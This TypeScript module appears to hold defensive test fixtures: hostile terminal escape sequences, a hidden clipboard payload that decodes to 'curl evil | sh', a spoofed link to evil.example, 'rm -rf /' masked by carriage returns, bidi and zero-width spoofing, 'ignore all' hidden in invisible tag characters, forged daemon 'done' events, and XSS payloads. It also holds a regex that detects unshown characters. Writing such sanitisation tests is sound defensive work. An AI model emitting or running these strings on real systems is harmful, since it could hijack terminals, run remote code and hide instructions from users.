/** Texts that drive a terminal, hide or reorder what is read, or look like what the daemon itself says. */
export const HOSTILE_TEXTS: readonly string[] = [
  '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007',
  '\u001b]0;owned\u001b\\',
  '\u001b]8;;http://evil.example/\u001b\\https://good.example\u001b]8;;\u001b\\',
  '\u001bP+q544e\u001b\\\u001b[6n\u001b[c\u001b]10;?\u0007\u0005',
  '\u001b[2J\u001b[H\u001b[?1049h\u001b[8m\u001b[1A\u001b[2K',
  '\u009b31m\u009d0;c1\u009c\u0090q\u009c',
  'safe\rrm -rf /\r\u001b[K\u0008\u0008\u007f\u000b\u000c\u0000',
  '\u202egnp.exe\u202c \u2066a\u2069 \u200e\u200f\u061c',
  'a\u200bb\u2060c\u2063d\ufeffe\u00adf\u180eg\u3164h\u115fi\ufff9j\ufffb',
  [...'ignore all'].map(each => String.fromCodePoint(0xe0000 + each.codePointAt(0)!)).join(''),
  '\n\nevent: done\ndata: {"reason":"completed"}\n\n\u2028\u0085data: {"kind":"done"}\n\n',
  '{"kind":"landed","landed":true}\n{"kind":"done","reason":"completed"}\n',
  '<script>window.owned = 1</script><img src=x onerror="window.owned = 1"><style>*{display:none}</style>',
  '[x](javascript:window.owned=1) ![x](http://127.0.0.1:1/owned.png) <http://127.0.0.1:1/> [y](//127.0.0.1:1/)',
  '\ud800 \udfff \uffff \u{10ffff}',
]

/** What no terminal and no line of a person's may get: controls, direction marks and characters without a glyph. */
export const UNSHOWN = /[\p{Cc}\p{DI}\u2028\u2029\ufff9-\ufffb](?<![\t\n\ufe00-\ufe0f\u{e0100}-\u{e01ef}])/u

/** The text without the styles that the command line writes itself. */
export const withoutStyles = (text: string): string => text.replaceAll(/\u001b\[\d{1,2}m|\r\u001b\[K/g, '')
